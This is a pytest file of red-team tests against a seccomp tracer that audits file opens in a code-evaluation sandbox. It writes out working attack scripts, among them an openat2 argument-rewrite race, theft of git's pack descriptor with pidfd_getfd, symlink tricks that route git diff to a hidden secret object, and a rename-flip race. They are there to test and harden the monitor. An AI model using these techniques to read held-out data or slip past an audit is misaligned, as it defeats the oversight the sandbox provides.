"""Red-team attacks on "no read-open is let go on unseen" (seccomp_trace.c, ``pin``, ``open_row``).

The tracer answers each read-open of a phase's program itself (pins the file its walk reached,
or answers the kernel's error) or lets it go on (CONTINUE) with an ``unpinned`` row, a finding:
after CONTINUE the kernel reads the call's arguments from the caller's memory again, and a
second thread can rewrite them once it sees the tracer's read (the first touch of a dropped page
in ``/proc/self/pagemap``). Each attack below is a candidate's train code in the real sandbox
under the compiled tracer, over a task repository whose ``future`` branch holds
``FUTURE_SECRET_42`` (its loose object's path in ``obj.txt``, written from outside the box):
(1) an open let go on with no row, (2) the tracer handing over what the kernel would refuse the
caller (the confused deputy), (3) an honest program told something the kernel would not tell it
(a control with pinning off, ``EVOTREE_TRACE_PIN=off``, gives the kernel's answer), (4) the
tracer worn out.

An attack that works is a strict xfail asserting the safe outcome (its reason says how it
works); one that is stopped is a passing test asserting it is stopped.

Of the 19 that first worked against 9337562, 14 were stopped by 673490b and e819150: openat2's
open_how rewritten (4 decoys), pidfd_getfd of the machine's git's pack, the host's namespaces in
/proc/sysvipc and /proc/sys/{net,user}, the listing of /proc a finding, and seven honest answers
(a live folder named '... (deleted)', /proc/self/exe/, O_NOFOLLOW|O_DIRECTORY on /proc/self,
RESOLVE_NO_XDEV from the cwd, scoped openat2 through /proc's self, RESOLVE_NO_MAGICLINKS on
/dev/stdin, a descriptor that is no folder). e3aa73c stopped four more (the machine's git
reading the store through a link to its folder, openat2's argument checks, openat2 O_PATH failing
EBADF, O_CREAT|O_DIRECTORY); its walk of git's opens, passed through the caller's /proc/self
links, was mended by 7d65faa.

Still working at 7d65faa (strict xfails): the machine's git reading a loose object as a file
(git diff --no-index --binary) with a storage word in the path as written, in its own layout
through a link to .git or .git/objects, or run in .git with no link at all; a pty's slave opened
by a session leader (no controlling terminal made); a FIFO with no writer reopened through
/proc/self/fd (no wait); O_NOFOLLOW with a trailing slash after /proc/self; RESOLVE_BENEATH of
an absolute path from a file's descriptor.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from test_redteam_gym_trace import _safe
from test_redteam_trace_deputy import _OPENS, _differs, _lines, _run
from test_redteam_trace_deputy import seccomp as seccomp  # noqa: F401 - the fixture
from test_redteam_trace_own_links_redteam import _LEAK, _future_object

from evotree.harness.audit.trace import TRACE_FILE


def _works(reason: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, raises=AssertionError, reason=reason)


def _rows(tmp_path: Path) -> list[dict]:
    """The trace's open rows."""
    text = (tmp_path / "evidence" / TRACE_FILE).read_text()
    return [r for r in map(json.loads, text.splitlines()) if r.get("kind") == "open"]


# ------------------------------------------------ (1) an open let go on with no row

#: openat2 with the path on one page and its open_how on the next (a memfd mapping, both pages
#: dropped before each try): the decoy is an open the tracer does not answer (DECOY_FLAGS: not a
#: read); a thread waits for the tracer's read of the open_how page, then writes the object's
#: path and an open_how of O_RDONLY. The kernel copies both again after CONTINUE.
_HOW_REWRITE = """\
import ctypes, mmap, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
target = os.path.join(work, obj).encode() + b"\\0"
open("decoy", "w").write("decoy")
os.makedirs("decoydir", exist_ok=True)
decoy = {decoy} + b"\\0"
mfd = os.memfd_create("path")
os.ftruncate(mfd, 8192)
mm = mmap.mmap(mfd, 8192, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
path_at = ctypes.addressof(ctypes.c_char.from_buffer(mm))
how_at = path_at + 4096
pagemap = os.open("/proc/self/pagemap", os.O_RDONLY)
def present():
    return int.from_bytes(os.pread(pagemap, 8, how_at // 4096 * 8), "little") >> 63
armed = threading.Event()
def watch():
    while True:
        armed.wait()
        while armed.is_set() and not present():
            pass
        if armed.is_set():
            present()
            ctypes.memmove(path_at, target, len(target))
            ctypes.memmove(how_at, os.O_RDONLY.to_bytes(8, "little") + bytes(16), 24)
            armed.clear()
threading.Thread(target=watch, daemon=True).start()
for tries in range(1, {tries} + 1):
    ctypes.memmove(path_at, b"\\0" * 4096, 4096)
    ctypes.memmove(path_at, decoy, len(decoy))
    ctypes.memmove(how_at, ({flags}).to_bytes(8, "little") + (0o600).to_bytes(8, "little")
                   + bytes(8), 24)
    mm.madvise(mmap.MADV_DONTNEED)
    armed.set()
    fd = libc.syscall(437, -100, ctypes.c_void_p(path_at), ctypes.c_void_p(how_at), 24)
    armed.clear()
    try:
        data = os.read(fd, 4096) if fd >= 0 else b""
    except OSError:
        data = b""
    if fd >= 0:
        os.close(fd)
    for made in ("made", "made2"):
        if os.path.exists(made):
            os.unlink(made)
    try:
        print("attack OK", zlib.decompress(data).decode("latin1").replace("\\x00", " "))
        break
    except zlib.error:
        pass
print("tries", tries)
"""

#: name: (decoy path, decoy flags): openat2 opens the tracer lets go on with no row (no read)
_HOW_DECOYS = {
    "o-path": ('b"decoy"', "os.O_PATH"),
    "write-only": ('b"decoy"', "os.O_WRONLY"),
    "creat-excl": ('b"made"', "os.O_RDONLY | os.O_CREAT | os.O_EXCL"),
    "tmpfile": ('b"decoydir"', "os.O_RDWR | os.O_TMPFILE"),
}


@pytest.mark.heavy
@pytest.mark.parametrize("name", sorted(_HOW_DECOYS))
def test_openat2_flags_rewritten_after_the_tracers_read(
    tmp_path: Path, seccomp: None, name: str
) -> None:
    """Stopped (673490b): no openat2 is let go on unseen: O_PATH is pinned; O_WRONLY,
    O_CREAT|O_EXCL and O_TMPFILE are let go on as findings. (Before: won in 1-5 tries, no row.)"""
    decoy, flags = _HOW_DECOYS[name]
    script = _LEAK + _HOW_REWRITE.format(decoy=decoy, flags=flags, tries=150)
    proc, audit = _run(tmp_path, script, _future_object, timeout=240)
    if "tries" not in _lines(proc):  # the attack did not run: not a pass
        pytest.fail(proc.stdout + proc.stderr[-2000:])
    _safe(proc, audit)


#: the machine's git (exempt: its opens are gitread rows) reads the task repository's pack and
#: keeps its descriptor (a pack bigger than one window); the phase takes that descriptor with
#: pidfd_getfd, which no open of its own precedes, and inflates what the pack holds
_STEAL_PACK = """\
import ctypes, os, subprocess, sys, time, zlib
sys.stdout.reconfigure(line_buffering=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
r, w = os.pipe()
os.set_blocking(w, False)
try:
    while True:  # a full pipe: git blocks on its first write, its pack still open
        os.write(w, b"x" * 65536)
except BlockingIOError:
    pass
os.set_blocking(w, True)
git = subprocess.Popen(["git", "-c", "core.packedGitWindowSize=4k", "log", "-p"], stdout=w)
time.sleep(1.5)
pidfd = libc.syscall(434, git.pid, 0)  # pidfd_open
print("pidfd", pidfd >= 0)
for n in range(3, 64):
    fd = libc.syscall(438, pidfd, n, 0)  # pidfd_getfd
    if fd < 0:
        continue
    data = os.pread(fd, 4 << 20, 0)
    for i in range(len(data)):
        try:
            text = zlib.decompressobj().decompress(data[i:]) if data[i] == 0x78 else b""
        except zlib.error:
            continue
        if b"FUTURE" in text:
            print("attack OK", text.decode("latin1").replace("\\n", " ").replace("\\x00", " "))
            break
print("done", True)
git.kill()
"""


def _packed_with_a_big_blob(work: Path) -> None:
    """Outside the box: a 300 KB blob committed on main, everything packed (git gc)."""
    (work / "big.bin").write_bytes(os.urandom(300_000))
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "a",
        "GIT_AUTHOR_EMAIL": "a@b",
        "GIT_COMMITTER_NAME": "a",
        "GIT_COMMITTER_EMAIL": "a@b",
    }
    for args in (["add", "big.bin"], ["commit", "-qm", "big"], ["gc", "-q"]):
        subprocess.run(["git", "-C", str(work), *args], check=True, env=env)


@pytest.mark.heavy
def test_a_descriptor_taken_from_the_machines_git(tmp_path: Path, seccomp: None) -> None:
    """Stopped (673490b): the sandbox's filter refuses pidfd_getfd (EPERM). (Before: the whole
    pack read through git's descriptor, no open of the phase's own, nothing flagged.)"""
    proc, audit = _run(tmp_path, _STEAL_PACK, _packed_with_a_big_blob, timeout=120)
    if "done" not in _lines(proc):  # the attack did not run: not a pass
        pytest.fail(proc.stdout + proc.stderr[-2000:])
    _safe(proc, audit)


#: the machine's git (exempt) reads the loose object through a link to its folder: its open's
#: path ("d/<38 hex>", or SPELLING of it) is no git storage as written, and the binary patch of a
#: no-index diff is the object file's bytes, deflated and in base85
_GIT_THROUGH_A_FOLDER_LINK = """\
import base64, subprocess
where = {spelling}
if where and not where.startswith("/"):
    os.makedirs(where, exist_ok=True)
os.symlink(os.path.join(work, os.path.dirname(obj)), (where if where[:1] != "/" else "") + "d")
path = where + "d/" + os.path.basename(obj)
patch = subprocess.run(
    ["git", "diff", "--no-index", "--binary", "/dev/null", path], capture_output=True, text=True
).stdout.splitlines()
data = b""
for line in patch[next(k for k, l in enumerate(patch) if l.startswith("literal ")) + 1:]:
    if not line:
        break
    size = ord(line[0]) - (ord("A") - 1 if line[0] <= "Z" else ord("a") - 27)
    data += base64.b85decode(line[1:].encode())[:size]
text = zlib.decompress(zlib.decompress(data))
print("attack OK", text.decode("latin1").replace("\\x00", " ").replace("\\n", " "))
"""

#: a folder whose path as written holds a word of git storage ("refs/heads", "objects/info",
#: "packed-refs", ...): e3aa73c left such a path to git's own rows, which judge refs and HEADs
#: of the task repository only, and the future object came out of git diff --no-index, nothing
#: flagged. Stopped: git opens its object database's files O_CLOEXEC and a file it reads as a
#: file without; a plain open that reaches an object file is an open row, however spelled


#: name: (spelling before "d/<hex>", a Python expression; marks)
_GIT_SPELLINGS = {
    "relative": ('""', []),
    "under-refs-heads": ('"x/refs/heads/"', []),
    "under-objects-info": ('"x/objects/info/"', []),
    "under-packed-refs": ('"x/packed-refs/"', []),
    "under-logs-head": ('"x/logs/HEAD/"', []),
    "proc-self-cwd": ('"/proc/self/cwd/"', []),
    "proc-thread-self-cwd": ('"/proc/thread-self/cwd/"', []),
    "proc-self-root": ('"/proc/self/root" + work + "/"', []),
}


@pytest.mark.heavy
@pytest.mark.parametrize(
    "spelling", [pytest.param(k, marks=m, id=k) for k, (_, m) in _GIT_SPELLINGS.items()]
)
def test_the_machines_git_through_a_link_to_the_store(
    tmp_path: Path, seccomp: None, spelling: str
) -> None:
    """Stopped as written (e3aa73c: git's open outside the layout is walked; reaching git storage
    is a finding) and through the caller's /proc/self/cwd, thread-self's cwd and /proc/self/root
    (7d65faa: a walk from the root that fails is walked as a program's open is; before, the
    tracer's walk failed on "self" and wrote no row). Before e3aa73c: no row at all."""
    script = _LEAK + _GIT_THROUGH_A_FOLDER_LINK.format(spelling=_GIT_SPELLINGS[spelling][0])
    proc, audit = _run(tmp_path, script, _future_object)
    if "attack" not in _lines(proc) and "Traceback" not in proc.stderr:
        pytest.fail(proc.stdout + proc.stderr[-2000:])
    _safe(proc, audit)


#: git's own layout reached through a link of the phase's to .git or to .git/objects: git_layout
#: knows the path (a gitread row of the objects folder is written), and the audit judges git's
#: object reads only by the HEAD and refs the process read
_GIT_LAYOUT_THROUGH_A_LINK = """\
import base64, subprocess
if {target}:
    os.symlink(os.path.join(work, {target}), "x")
path = {path}.replace("XX", obj.split("/")[-2]).replace("HEX", os.path.basename(obj))
patch = subprocess.run(
    ["git", "diff", "--no-index", "--binary", "/dev/null", path],
    capture_output=True, text=True, cwd={cwd},
).stdout.splitlines()
data = b""
for line in patch[next(k for k, l in enumerate(patch) if l.startswith("literal ")) + 1:]:
    if not line:
        break
    size = ord(line[0]) - (ord("A") - 1 if line[0] <= "Z" else ord("a") - 27)
    data += base64.b85decode(line[1:].encode())[:size]
text = zlib.decompress(zlib.decompress(data))
print("attack OK", text.decode("latin1").replace("\\x00", " ").replace("\\n", " "))
"""

#: name: (the link's target under the work folder ("": none), the path git is given, its cwd)
_GIT_LAYOUT_LINKS = {
    "link-to-dot-git": ('".git"', '"x/objects/XX/HEX"', '"."'),
    "link-to-objects": ('".git/objects"', '"x/XX/HEX"', '"."'),
    "no-link-run-in-dot-git": ('""', '"objects/XX/HEX"', '".git"'),
    "no-link-run-in-objects": ('""', '"XX/HEX"', '".git/objects"'),
}


#: ln -s .git x (or .git/objects): git diff --no-index --binary /dev/null x/objects/xx/<hex> is
#: git's layout as written, so before only a gitread row of the objects folder was written,
#: which the audit judges by the HEAD and refs git read, and the argv names no .git (nor with no
#: link at all: the same diff of objects/xx/<hex> run in .git): the future object came out,
#: nothing flagged. Stopped as above: git read the object file as a plain file (no O_CLOEXEC)
@pytest.mark.heavy
@pytest.mark.parametrize("name", sorted(_GIT_LAYOUT_LINKS))
def test_the_machines_git_in_its_layout_through_a_link(
    tmp_path: Path, seccomp: None, name: str
) -> None:
    target, path, cwd = _GIT_LAYOUT_LINKS[name]
    script = _LEAK + _GIT_LAYOUT_THROUGH_A_LINK.format(target=target, path=path, cwd=cwd)
    proc, audit = _run(tmp_path, script, _future_object)
    if "attack" not in _lines(proc) and "Traceback" not in proc.stderr:
        pytest.fail(proc.stdout + proc.stderr[-2000:])
    _safe(proc, audit)


#: the link d flipped (renameat2 RENAME_EXCHANGE, a few microseconds each way) between a decoy
#: folder holding a file of the object's name and the object's folder, while git reads d/<hex>
#: over and over: won when the tracer's walk saw the decoy and the kernel's the store
_GIT_LINK_FLIPPED = """\
import base64, ctypes, subprocess, threading, time
libc = ctypes.CDLL(None, use_errno=True)
hexname = os.path.basename(obj)
os.mkdir("decoy")
open(os.path.join("decoy", hexname), "w").write("x")
os.symlink("decoy", "d")
os.symlink(os.path.join(work, os.path.dirname(obj)), "e")
stop = False
def flip():
    while not stop:
        libc.renameat2(-100, b"d", -100, b"e", 2)  # RENAME_EXCHANGE: d names the store
        libc.renameat2(-100, b"d", -100, b"e", 2)  # and the decoy again
        until = time.perf_counter() + 0.00005
        while time.perf_counter() < until:
            pass
threading.Thread(target=flip, daemon=True).start()
for tries in range(1, 300):
    patch = subprocess.run(
        ["git", "diff", "--no-index", "--binary", "/dev/null", "d/" + hexname],
        capture_output=True, text=True,
    ).stdout.splitlines()
    try:
        data = b""
        for line in patch[next(k for k, l in enumerate(patch) if l.startswith("literal ")) + 1:]:
            if not line:
                break
            size = ord(line[0]) - (ord("A") - 1 if line[0] <= "Z" else ord("a") - 27)
            data += base64.b85decode(line[1:].encode())[:size]
        text = zlib.decompress(zlib.decompress(data))
    except Exception:
        continue
    print("attack OK", text.decode("latin1").replace("\\x00", " ").replace("\\n", " "))
    break
stop = True
print("tries", tries)
"""


@pytest.mark.heavy
def test_the_machines_git_through_a_flipped_link(tmp_path: Path, seccomp: None) -> None:
    """Stopped (seen flagged in 16 of 16 runs): git reads d/<hex> several times a run, and the
    tracer's walk of one of them finds the store before the kernel's alone does."""
    proc, audit = _run(tmp_path, _LEAK + _GIT_LINK_FLIPPED, _future_object, timeout=240)
    if "tries" not in _lines(proc):
        pytest.fail(proc.stdout + proc.stderr[-2000:])
    _safe(proc, audit)


# ------------------------------- (2) the tracer hands over what the kernel would not give

#: a SysV shared-memory key made outside the box (the host's IPC namespace) by the test
_HOST_SHM_KEY = 0x1EE7C0DE

#: /proc files whose namespace is the opener's: the SysV IPC listing (taken from the opener's
#: IPC namespace at open) and /proc/sys/net, /proc/sys/user (the sysctl table set looked up by
#: the walker's network and user namespaces)
_NAMESPACED = (
    """\
import sys
sys.stdout.reconfigure(line_buffering=True)
fd = os.open("/proc/sysvipc/shm", os.O_RDONLY)
keys = [line.split()[0] for line in os.read(fd, 1 << 20).decode().splitlines()[1:]]
print("host-shm", str(%d) in keys)
print("net-conf", sorted(os.listdir("/proc/sys/net/ipv4/conf")))
attempt("user-max-userns", "/proc/sys/user/max_user_namespaces")
"""
    % _HOST_SHM_KEY
)


@pytest.fixture
def host_shm() -> object:
    """A SysV shared-memory segment of the host's IPC namespace (removed after)."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    shmid = libc.shmget(_HOST_SHM_KEY, 4096, 0o600 | 0o1000)  # IPC_CREAT
    if shmid < 0:
        pytest.skip("no SysV shared memory here")
    yield shmid
    libc.shmctl(shmid, 0, None)  # IPC_RMID


@pytest.mark.heavy
def test_proc_files_of_the_openers_namespace_are_the_boxs(
    tmp_path: Path, seccomp: None, host_shm: object
) -> None:
    """Stopped (673490b): /proc files of the opener's namespaces are let go on (a finding), and
    the kernel opens them in the box's. (Before: the host's SysV segments, network interfaces and
    max_user_namespaces.)"""
    pinned, _ = _run(tmp_path / "pinned", _OPENS + _NAMESPACED)
    kernel, _ = _run(tmp_path / "kernel", _OPENS + _NAMESPACED, pin="off")
    got, want = _lines(pinned), _lines(kernel)
    assert want.get("host-shm") == "False", kernel.stdout + kernel.stderr[-2000:]
    assert got.get("host-shm") == "False", got  # the host's segment is not listed in the box
    assert not _differs(got, want), _differs(got, want)


# ----------------------------- (3) an honest program told what the kernel would not tell it

#: ``o2(name, dirfd, path, flags, resolve)``: openat2, printing like ``attempt``
_O2 = """\
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def o2(name, dirfd, path, flags=os.O_RDONLY, resolve=0):
    how = ctypes.create_string_buffer(struct.pack("QQQ", flags, 0, resolve), 24)
    fd = libc.syscall(437, dirfd, path.encode(), how, 24)
    if fd < 0:
        print(name, "ERR", errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()))
        return
    if flags & os.O_PATH:
        data = oct(os.fstat(fd).st_mode).encode()
    else:
        try:
            data = os.pread(fd, 60, 0) if not flags & os.O_DIRECTORY else b"<dir>"
        except OSError as exc:
            data = ("<" + errno.errorcode.get(exc.errno, str(exc.errno)) + ">").encode()
    print(name, "OK", data)
    os.close(fd)
"""

#: name: (script, reason it differs or None where the tracer answers as the kernel does). Each
#: runs pinned and with pinning off; its lines must be the same
_HONEST = {
    "a live folder named like a removed one": (
        """\
os.mkdir("a (deleted)")
open("a (deleted)/f", "w").write("present")
d = os.open("a (deleted)", os.O_RDONLY | os.O_DIRECTORY)
os.chdir("a (deleted)")
attempt("cwd-name", "f")
attempt("cwd-creat", "g", os.O_RDWR | os.O_CREAT, 0o644)
try:
    print("dirfd-name OK", os.read(os.open("f", os.O_RDONLY, dir_fd=d), 20))
except OSError as exc:
    print("dirfd-name ERR", exc.errno)
""",
        None,  # stopped by 673490b/e819150
    ),
    "a terminal opened by a session leader becomes its controlling terminal": (
        """\
import sys
m, s = os.openpty()
name = os.ttyname(s)
os.close(s)
sys.stdout.flush()
pid = os.fork()
if pid == 0:
    os.setsid()
    os.open(name, os.O_RDWR)  # no O_NOCTTY: the kernel makes it the controlling terminal
    attempt("then-dev-tty", "/dev/tty", os.O_RDWR)
    sys.stdout.flush()
    os._exit(0)
os.waitpid(pid, 0)
""",
        "the tracer opens every terminal O_NOCTTY in its own process: a session leader that "
        "opens a pty's slave without O_NOCTTY gets no controlling terminal, and its later "
        "/dev/tty is ENXIO where the kernel opens it",
    ),
    "a trailing slash after /proc/self/exe": (
        """\
attempt("exe-slash", "/proc/self/exe/")
attempt("exe-slash-dot", "/proc/self/exe/.")
""",
        None,  # stopped by 673490b/e819150
    ),
    "O_NOFOLLOW and O_DIRECTORY on /proc/self and /proc/net": (
        """\
attempt("self-nofollow-dir", "/proc/self", os.O_RDONLY | os.O_NOFOLLOW | os.O_DIRECTORY)
attempt("net-nofollow-dir", "/proc/net", os.O_RDONLY | os.O_NOFOLLOW | os.O_DIRECTORY)
attempt("self-nofollow", "/proc/self", os.O_RDONLY | os.O_NOFOLLOW)
""",
        None,  # stopped by 673490b/e819150
    ),
    "openat2 with RESOLVE_NO_XDEV from the working folder": (
        _O2
        + """\
o2("cwd-noxdev", -100, "t.py", resolve=0x01)
""",
        None,  # stopped by 673490b/e819150
    ),
    "openat2 scoped in /proc through self": (
        _O2
        + """\
proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
o2("proc-self-beneath", proc, "self/comm", resolve=0x08)
o2("proc-thread-self-beneath", proc, "thread-self/comm", resolve=0x08)
o2("proc-net-beneath", proc, "net/dev", resolve=0x08)
o2("root-in-root-self", root, "/proc/self/comm", resolve=0x10)
o2("proc-self-noxdev", proc, "self/comm", resolve=0x01)
""",
        None,  # stopped by 673490b/e819150
    ),
    "openat2 with RESOLVE_NO_MAGICLINKS through a descriptor link": (
        _O2
        + """\
o2("dev-stdin-no-magic", -100, "/dev/stdin", resolve=0x02)
o2("dev-stdin-no-symlinks", -100, "/dev/stdin", resolve=0x04)
o2("self-fd-no-magic", -100, "/proc/self/fd/0", resolve=0x02)
""",
        None,  # stopped by 673490b/e819150
    ),
    "a FIFO with no writer reopened through /proc/self/fd": (
        """\
import threading, time
os.mkfifo("p")
n = os.open("p", os.O_RDONLY | os.O_NONBLOCK)  # no writer yet
def writer():
    time.sleep(1.0)
    w = os.open("p", os.O_WRONLY)
    os.write(w, b"late")
    time.sleep(0.5)
    os.close(w)
threading.Thread(target=writer).start()
t = time.time()
fd = os.open("/proc/self/fd/%d" % n, os.O_RDONLY)
print("fifo-by-descriptor", time.time() - t > 0.5, os.read(fd, 10))
""",
        "a FIFO named by one of the caller's descriptors is pinned (opened O_NONBLOCK, which is "
        "taken back after) even read-only and blocking: the open does not wait for a writer and "
        "the read finds end of file at once, where the kernel's open waits and reads 'late'",
    ),
    "a relative open from a descriptor that is no folder": (
        """\
import socket
def at(name, dirfd, path):
    try:
        os.open(path, os.O_RDONLY, dir_fd=dirfd)
        print(name, "OK")
    except OSError as exc:
        print(name, "ERR", errno.errorcode.get(exc.errno, exc.errno))
r, w = os.pipe()
at("pipe", r, "x")
at("memfd", os.memfd_create("m"), "x")
at("eventfd", os.eventfd(0), "x")
at("socket", socket.socket().fileno(), "x")
open("gone", "w").write("x")
g = os.open("gone", os.O_RDONLY)
os.unlink("gone")
at("removed-file", g, "x")
""",
        None,  # stopped by 673490b/e819150
    ),
    "the caller's own threads, and a lease of its own": (
        """\
import fcntl, signal, threading, time
ev = threading.Event()
tids = []
def t():
    tids.append(threading.get_native_id())
    ev.wait()
th = threading.Thread(target=t)
th.start()
time.sleep(0.2)
attempt("thread-environ", "/proc/self/task/%d/environ" % tids[0])
attempt("thread-comm", "/proc/self/task/%d/comm" % tids[0])
attempt("tid-as-pid-environ", "/proc/%d/environ" % tids[0])
attempt("not-my-task", "/proc/self/task/1/comm")
ev.set()
th.join()
signal.signal(signal.SIGIO, signal.SIG_IGN)
open("leased", "w").write("L")
lease = os.open("leased", os.O_RDONLY)
fcntl.fcntl(lease, 1024, fcntl.F_RDLCK)  # F_SETLEASE
attempt("leased-read", "leased")
attempt("leased-rdwr-nonblock", "leased", os.O_RDWR | os.O_NONBLOCK)
""",
        None,
    ),
    "descriptors of every kind reopened through /proc/self/fd": (
        """\
import ctypes, select
libc = ctypes.CDLL(None, use_errno=True)
r, w = os.pipe()
open("wo", "w").write("secret")
os.chmod("wo", 0o200)
fds = {
    "eventfd": os.eventfd(0),
    "epoll": select.epoll().fileno(),
    "memfd": os.memfd_create("m"),
    "pidfd": os.pidfd_open(os.getpid()),
    "inotify": libc.inotify_init(),
    "pipe-w": w,
    "pipe-r": r,
    "devnull-w": os.open("/dev/null", os.O_WRONLY),
    "write-only-file": os.open("wo", os.O_WRONLY),
    "o-path-file": os.open("t.py", os.O_PATH),
    "o-path-dir": os.open(".", os.O_PATH),
}
for name, fd in fds.items():
    attempt(name, "/proc/self/fd/%d" % fd)
    attempt(name + "-rdwr", "/proc/self/fd/%d" % fd, os.O_RDWR)
""",
        None,
    ),
    "openat2's and open's argument checks": (
        _O2
        + """\
def raw(name, flags, mode=0, resolve=0, tail=b""):
    how = ctypes.create_string_buffer(struct.pack("QQQ", flags, mode, resolve) + tail)
    fd = libc.syscall(437, -100, b"t.py", how, 24 + len(tail))
    print(name, "OK" if fd >= 0 else errno.errorcode.get(ctypes.get_errno()))
raw("mode-without-creat", os.O_RDONLY, mode=0o644)
raw("unknown-flag", os.O_RDONLY | 1 << 40)
raw("unknown-resolve", os.O_RDONLY, resolve=0x40)
raw("nonzero-tail", os.O_RDONLY, tail=b"\\x01" + bytes(7))
attempt("tmpfile-without-directory", ".", 0o20000000 | os.O_RDWR)
""",
        None,  # stopped by e3aa73c
    ),
    "openat2 with O_PATH": (
        _O2
        + """\
import socket
os.mkfifo("fifo")
socket.socket(socket.AF_UNIX).bind("sock")
os.symlink("t.py", "lnk")
for name, path, extra in (
    ("file", "t.py", 0),
    ("file-cloexec", "t.py", os.O_CLOEXEC),
    ("self", "/proc/self", 0),
    ("self-status", "/proc/self/status", 0),
    ("self-exe", "/proc/self/exe", 0),
    ("dev-stdin", "/dev/stdin", 0),
    ("fifo", "fifo", 0),
    ("socket", "sock", 0),
    ("link-nofollow", "lnk", os.O_NOFOLLOW),
    ("git-folder", ".git", os.O_DIRECTORY),
    ("self-nofollow", "/proc/self", os.O_NOFOLLOW),
):
    o2(name, -100, path, os.O_PATH | extra)
""",
        None,  # stopped by e3aa73c
    ),
    "O_NOFOLLOW with a trailing slash after /proc's self links": (
        """\
os.symlink("/proc/self", "sl")
for path in ("/proc/self/", "/proc/self/.", "/proc/net/", "/proc/thread-self/", "sl/"):
    attempt(path + "-nofollow", path, os.O_RDONLY | os.O_NOFOLLOW)
    attempt(path + "-nofollow-dir", path, os.O_RDONLY | os.O_NOFOLLOW | os.O_DIRECTORY)
attempt("mounts-slash-nofollow", "/proc/mounts/", os.O_RDONLY | os.O_NOFOLLOW)
""",
        None,  # answered as the kernel does since the lead's fix (was a strict xfail)
    ),
    "openat2 RESOLVE_BENEATH of an absolute path from a file's descriptor": (
        _O2
        + """\
o2("beneath-absolute-from-a-file", os.open("t.py", os.O_RDONLY), "/x", resolve=0x08)
""",
        None,  # answered as the kernel does since the lead's fix (was a strict xfail)
    ),
    "O_RDWR (and access mode 3) on /proc files, /proc/keys": (
        """\
for entry in ("comm", "attr/current", "oom_score_adj", "setgroups", "uid_map", "clear_refs",
              "mem", "timerslack_ns", "coredump_filter"):
    attempt("rdwr-" + entry, "/proc/self/" + entry, os.O_RDWR)
attempt("rdwr-sys", "/proc/sys/vm/overcommit_memory", os.O_RDWR)
attempt("rdwr-sysrq", "/proc/sysrq-trigger", os.O_RDWR)
attempt("rdwr-keys", "/proc/keys", os.O_RDWR)
attempt("keys", "/proc/keys")
attempt("key-users", "/proc/key-users")
attempt("mode3-comm", "/proc/self/comm", 3)
attempt("mode3-file", "t.py", 3)
""",
        None,
    ),
    "plain files, links, devices, FIFOs and pipes": (
        """\
open("plain", "w").write("x")
os.symlink("plain", "lnk")
os.symlink("/dev/null", "devlink")
os.mkfifo("fifo")
attempt("plain-slash", "plain/")
attempt("plain-slash-dot", "plain/.")
attempt("link-slash", "lnk/")
attempt("plain-dir", "plain", os.O_RDONLY | os.O_DIRECTORY)
attempt("devlink", "devlink")
attempt("devlink-nofollow", "devlink", os.O_RDONLY | os.O_NOFOLLOW)
attempt("fifo-rdwr", "fifo", os.O_RDWR)
attempt("devnull-slash", "/dev/null/")
attempt("stdout", "/dev/stdout")
attempt("proc-fd0", "/proc/self/fd/0")
attempt("ptmx", "/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
attempt("self-dir", "/proc/self", os.O_RDONLY | os.O_DIRECTORY)
attempt("self-task-dotdot", "/proc/self/task/../status")
attempt("self-uid-map", "/proc/self/uid_map")
attempt("self-setgroups", "/proc/self/setgroups")
attempt("self-stack", "/proc/self/stack")
attempt("self-pagemap", "/proc/self/pagemap")
attempt("kallsyms", "/proc/kallsyms")
attempt("kcore", "/proc/kcore")
attempt("kmsg", "/proc/kmsg", os.O_RDONLY | os.O_NONBLOCK)
attempt("sys-random", "/proc/sys/kernel/random/boot_id")
attempt("too-long", "x" * 5000)
""",
        None,
    ),
    "/proc/self of a process made non-dumpable, and another's entries": (
        """\
import ctypes, sys, time
libc = ctypes.CDLL(None, use_errno=True)
r, w = os.pipe()
sys.stdout.flush()
pid = os.fork()
if pid == 0:
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
    os.write(w, b"x")
    time.sleep(30)
    os._exit(0)
os.read(r, 1)
for entry in ("environ", "attr/current", "cmdline", "stack", "io", "personality",
              "wchan", "timerslack_ns", "task/%d/environ" % pid, "task/%d/attr/current" % pid):
    attempt("other-" + entry, "/proc/%d/%s" % (pid, entry))
os.kill(pid, 9)
os.waitpid(pid, 0)
libc.prctl(4, 0, 0, 0, 0)
for entry in ("environ", "maps", "attr/current", "exe", "stack", "fdinfo/0"):
    attempt("self-" + entry, "/proc/self/" + entry)
    attempt("own-pid-" + entry, "/proc/%d/%s" % (os.getpid(), entry))
""",
        None,
    ),
}

#: lines that differ between two runs whatever the tracer does (addresses, counters)
#: answers whose text is the machine's state, not the pinning's verdict: only their first
#: characters (OK or the error) are compared. /proc/keys and /proc/key-users list every keyring
#: the caller may view, and other processes (the audit replay's sandboxes make a session keyring
#: each) add and drop keyrings between the pinned and the kernel run: CI failed on it at stop 46.
_VOLATILE = ("self-pagemap", "kallsyms", "sys-random", "ptmx", "keys", "key-users")


def _honest_case(name: str) -> object:
    script, reason = _HONEST[name]
    return pytest.param(name, marks=[_works(reason)] if reason else [], id=name)


@pytest.mark.heavy
@pytest.mark.parametrize("name", [_honest_case(n) for n in _HONEST])
def test_an_honest_program_is_told_what_the_kernel_tells_it(
    tmp_path: Path, seccomp: None, name: str
) -> None:
    script = _OPENS + _HONEST[name][0]
    pinned, _ = _run(tmp_path / "pinned", script)
    kernel, _ = _run(tmp_path / "kernel", script, pin="off")
    got, want = _lines(pinned), _lines(kernel)
    if not want:  # the script did not run: not a pass
        pytest.fail(kernel.stdout + kernel.stderr[-2000:])
    for key in _VOLATILE:
        for side in (got, want):
            if key in side:
                side[key] = side[key][:6]
    assert not _differs(got, want), _differs(got, want)


